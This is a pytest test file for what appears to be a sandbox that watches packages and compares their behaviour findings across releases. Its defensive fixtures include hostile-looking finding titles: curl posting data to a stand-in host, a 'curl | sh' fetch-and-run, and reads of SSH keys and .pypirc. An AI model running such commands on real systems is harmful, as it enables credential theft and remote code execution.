"""Which findings are new beside an earlier release's report: the same act in two runs is the same,
whatever was drawn anew for the second, and no hostile line costs more than that.
"""

import base64
import doctest
import json
import secrets
import socket
import tempfile
from collections.abc import Iterator
from itertools import pairwise
from typing import Any

import pytest

from jail.orders import MAX_PACKET_BYTES, OrderError
from jail.watch import drawn
from jail.watch.drawn import without_drawn
from jail.watch.etc_files import make_host_name
from jail.watch.inlet import Inlet
from jail.watch.known import (
    MAX_KNOWN_FINDINGS,
    MAX_NEW_FINDINGS,
    KnownReport,
    acts_for_later,
    compare_findings,
    known_earlier,
    known_report,
)

RUN = "0af3" * 8
READS = "reads or touches /home/dev/.ssh/id_rsa"


def everything_drawn(_: str) -> bool:
    return True


# What is drawn for each run.


def hex_bait() -> str:
    return f"ghp_{secrets.token_hex(20)}"


def base32_label() -> str:
    return base64.b32encode(secrets.token_bytes(30)).decode().lower().rstrip("=")


def base64_environment() -> str:
    return base64.urlsafe_b64encode(secrets.token_bytes(90)).decode()


def temporary_name() -> str:
    with tempfile.NamedTemporaryFile() as file:
        return file.name


def build_folder() -> str:
    return f"{temporary_name().replace('tmp/tmp', 'tmp/pip-install-')}/x_{secrets.token_hex(4)}"


@pytest.mark.parametrize(
    "draw",
    [hex_bait, base32_label, base64_environment, temporary_name, build_folder, make_host_name],
)
@pytest.mark.parametrize("title", ["runs curl -d {} https://x.example/u", "asks for the name {}.x"])
def test_what_is_drawn_anew_makes_no_other_title(draw: Any, title: str) -> None:
    found = [without_drawn(title.format(draw()), "1.0") for _ in range(20)]
    # Chance may draw something that looks like a word. It does so rarely.
    assert sum(text != after for text, after in pairwise(found)) <= 4, set(found)
    assert all(text.startswith(title[:8]) for text in found)


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("POST https://x.example/, 1,234 bytes", "POST https://x.example/, 999 bytes"),
        ("runs /srv/site/x-1.0/bin/go", "runs /srv/site/x-1.0.0rc1/bin/go"),
        ("listens on 0.0.0.0:41234", "listens on 0.0.0.0:51000"),
        ("at work: Thread-1 at /srv/x.py:12", "at work: Thread-2 at /srv/x.py:340"),
        ("walks: /home/dev/projects/billing-api", "walks: /home/dev/projects/orders-cli"),
        ("asked at 2026-11-26T08:15:00Z", "asked at 2025-01-02T00:00:01.5Z"),
        (f"runs curl -d {'a b ' * 70}xyz…", f"runs curl -d {'a b ' * 71}…"),
        ("mails maria.novak17@example.com", "mails tom.silva@example.com"),
    ],
)
def test_two_runs_say_the_same(first: str, second: str) -> None:
    assert without_drawn(first, "1.0") == without_drawn(second, "1.0.0rc1")


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("connects (tcp) to 192.0.2.1:443", "connects (tcp) to 192.0.2.2:443"),
        ("connects (tcp) to 192.0.2.1:443", "connects (tcp) to 192.0.2.1:4444"),
        ("asks for the name a.example", "asks for the name b.example"),
        ("GET https://x.example/stage2", "GET https://x.example/stage3"),
        ("runs /tmp/updater", "runs /tmp/payload"),
        (READS, "reads or touches /home/dev/.pypirc"),
        ("runs python3 -m pip", "runs python2 -m pip"),
        ("GET https://x.example/upload/" + "a1" * 20, "GET https://x.example/beacon/" + "b2" * 20),
        ("runs sh -c curl -s x.example", "runs sh -c curl -s x.example | sh"),
    ],
)
def test_what_a_package_chooses_stays_apart(first: str, second: str) -> None:
    assert without_drawn(first, "1.0") != without_drawn(second, "1.0")


def test_the_examples_are_true() -> None:
    found = doctest.testmod(drawn)
    assert (found.failed, found.attempted) == (0, 3)


@pytest.mark.parametrize("text", ["1" * 10**6, "a1" * 10**5, "-/+=" * 10**5, "1.1." * 10**5, "…"])
def test_a_long_title_costs_nothing(text: str) -> None:
    assert len(without_drawn(text, "1" * 200, everything_drawn)) <= drawn.MAX_SAME_CHARS


# What the service tells.


def told(
    version: str = "1.0", findings: Any = (), is_whole: object = True, **more: Any
) -> dict[str, Any]:
    acts = json.dumps({"is_whole": is_whole, "findings": findings})
    about = {"version": version, "run_id": RUN, "outcome": "ok", "verdict": "high"}
    return about | {"acts": acts} | more


def line(*reports: Any) -> bytes:
    return json.dumps(reports).encode()


ROW = ("secret.read", "import", READS, None)


def test_the_report_of_the_release_is_found() -> None:
    said = line(told("1.1"), told("1.0.0", [ROW]), told("1.0"))
    found = known_report(said, "1.0")
    assert found == KnownReport("1.0.0", RUN, "ok", "high", True, ((*ROW[:3], ""),))
    assert known_report(said, "0.9") is None


@pytest.mark.parametrize(
    "said",
    [
        None,
        b"",
        b"[]",
        b"{}",
        b"nonsense",
        b"[" * 100_000,
        b"\xff\xfe[]",
        line(None, 3, "x", [], {}),
        line(told(run_id="../../etc")),
        line(told(run_id=["x"])),
        line(told(outcome="<b>")),
        line(told(outcome=["ok"])),
        line(told(verdict="\x1b[2J")),
        line(told(findings={"a": 1})),
        line(told(acts=None)),
        line(told(acts="nonsense")),
        line(told(acts="[" * 100_000)),
        line(told(acts="[]")),
        line(told("9" * 5000)),
        line(told(1.0)),  # type: ignore[arg-type]
        line(*[told("0.1")] * 12, told("1.0")),
    ],
)
def test_a_hostile_line_says_nothing(said: bytes | None) -> None:
    assert known_report(said, "1.0") is None


def test_hostile_findings_are_passed_over_and_told() -> None:
    rows: list[Any] = [ROW, ROW[:3], [*ROW, "x"], [1, 2, 3, 4], [[], {}, None, None], "abcd", None]
    found = known_report(line(told(findings=rows)), "1.0")
    assert found
    assert (len(found.findings), found.is_whole) == (1, False)
    many = known_report(line(told(findings=[ROW] * (MAX_KNOWN_FINDINGS + 50))), "1.0")
    assert many
    assert (len(many.findings), many.is_whole) == (MAX_KNOWN_FINDINGS, False)
    for is_whole in (False, 1, "true"):
        cut = known_report(line(told(findings=[ROW], is_whole=is_whole)), "1.0")
        assert cut and not cut.is_whole
    odd = line(told(findings=[["\ud800", "\0", "\x1b[2J\u202e", "x" * 10**6]]))
    assert compare_findings([a_finding()], known_report(odd, "1.0"), "1.1", frozenset())["reported"]


def a_finding(title: str = READS, **more: Any) -> dict[str, Any]:
    about = {"severity": "high", "rule": "secret.read", "phase": "import", "title": title}
    return about | {"trigger": "x", "at": "/srv/x.py:1", "process": "p", "technique": ""} | more


def new_titles(findings: list[dict[str, Any]], *known: Any, made_up: str = "") -> list[str]:
    report = known_report(line(told("1.0", known)), "1.0")
    found = compare_findings(findings, report, "1.1", frozenset([made_up]))
    assert sum(found["new_finding_counts"].values()) == len(found["new_findings"])
    return [item["title"] for item in found["new_findings"]]


def test_what_the_earlier_report_has_is_not_new() -> None:
    other = a_finding("reads or touches /home/dev/.pypirc")
    assert new_titles([a_finding(), other], ROW) == [other["title"]]
    assert new_titles([a_finding(), other]) == [READS, other["title"]]
    # What ran only when it was called, and now when it is imported, is new.
    assert new_titles([a_finding(phase="import")], [ROW[0], "call", *ROW[2:]]) == [READS]


def test_an_address_of_the_decoy_internet_is_no_other_but_one_of_the_package_is() -> None:
    known = ["network.attempt", "import", "connects (tcp) to 34.5.6.7:443", None]
    now = a_finding("connects (tcp) to 51.2.3.4:443", rule="network.attempt")
    assert new_titles([now], known, made_up="51.2.3.4") == []
    assert new_titles([now], known) == [now["title"]]
    same = a_finding(str(known[2]), rule="network.attempt")
    assert new_titles([same], known) == []


def test_code_is_told_apart_by_where_it_runs() -> None:
    place = "/srv/site/x-1.0/lib/python3.12/site-packages/x/{}.py:7"
    known = ["code.dynamic", "import", "executes decoded code, 90 bytes", place.format("a")]
    title = "executes decoded code, 4,000 bytes"
    moved = place.replace("1.0", "1.1").replace(":7", ":99")
    first, second = (
        a_finding(title, rule="code.dynamic", at=moved.format(name)) for name in ("a", "b")
    )
    assert new_titles([first, second], known) == [title]


def test_new_findings_are_bounded_and_counted() -> None:
    crowd = [a_finding(f"reads {chr(0x4E00 + number)}") for number in range(400)]
    found = compare_findings(crowd, known_report(line(told()), "1.0"), "1.1", frozenset())
    assert len(found["new_findings"]) == MAX_NEW_FINDINGS
    assert found["new_finding_counts"] == {"high": 400, "medium": 0, "info": 0}
    nothing = compare_findings(crowd, None, "1.1", frozenset())
    assert nothing == {"reported": None, "new_findings": [], "new_finding_counts": {}}


def test_what_one_run_tells_another_reads() -> None:
    findings = [a_finding(), a_finding(), a_finding("reads \ud800\0", at=None)]
    acts = acts_for_later(findings)
    assert acts.isascii()
    found = known_report(line(told(acts=acts.decode())), "1.0")
    assert found
    assert (found.is_whole, len(found.findings)) == (True, 2)
    assert compare_findings(findings, found, "1.1", frozenset())["new_findings"] == []
    crowd = [a_finding(f"reads {number}" + "\ud800" * 1000) for number in range(900)]
    acts = acts_for_later(crowd)
    assert len(acts) <= 30 << 10
    found = known_report(line(told(acts=acts.decode())), "1.0")
    assert found and found.findings and not found.is_whole


# The stream.


@pytest.fixture
def streams() -> Iterator[tuple[socket.socket, Inlet]]:
    ours, theirs = socket.socketpair()
    with ours, theirs:
        yield ours, Inlet(theirs)


def test_lines_come_in_pieces_and_together(streams: tuple[socket.socket, Inlet]) -> None:
    ours, inlet = streams
    ours.sendall(b"one\ntwo\nth")
    assert [inlet.line(1), inlet.line(), inlet.line()] == [b"one", b"two", None]
    ours.sendall(b"ree\n")
    assert inlet.take()
    assert inlet.line() == b"three"
    ours.sendall(line(told("1.0", [ROW])) + b"\n")
    assert known_earlier(inlet, "1.0")


def test_nobody_waits_for_a_service_that_says_nothing(streams: tuple[socket.socket, Inlet]) -> None:
    ours, inlet = streams
    assert inlet.take()
    assert known_earlier(inlet, "1.0") is None
    ours.shutdown(socket.SHUT_WR)
    assert not inlet.take()
    assert known_earlier(inlet, "1.0") is None


def test_a_line_without_an_end_is_not_kept(streams: tuple[socket.socket, Inlet]) -> None:
    ours, inlet = streams
    for _ in range(8):
        ours.sendall(b"x" * MAX_PACKET_BYTES)
        assert inlet.take()
    assert len(inlet.unread) <= 3 * MAX_PACKET_BYTES
    with pytest.raises(OrderError):
        inlet.line()
    assert known_earlier(inlet, "1.0") is None
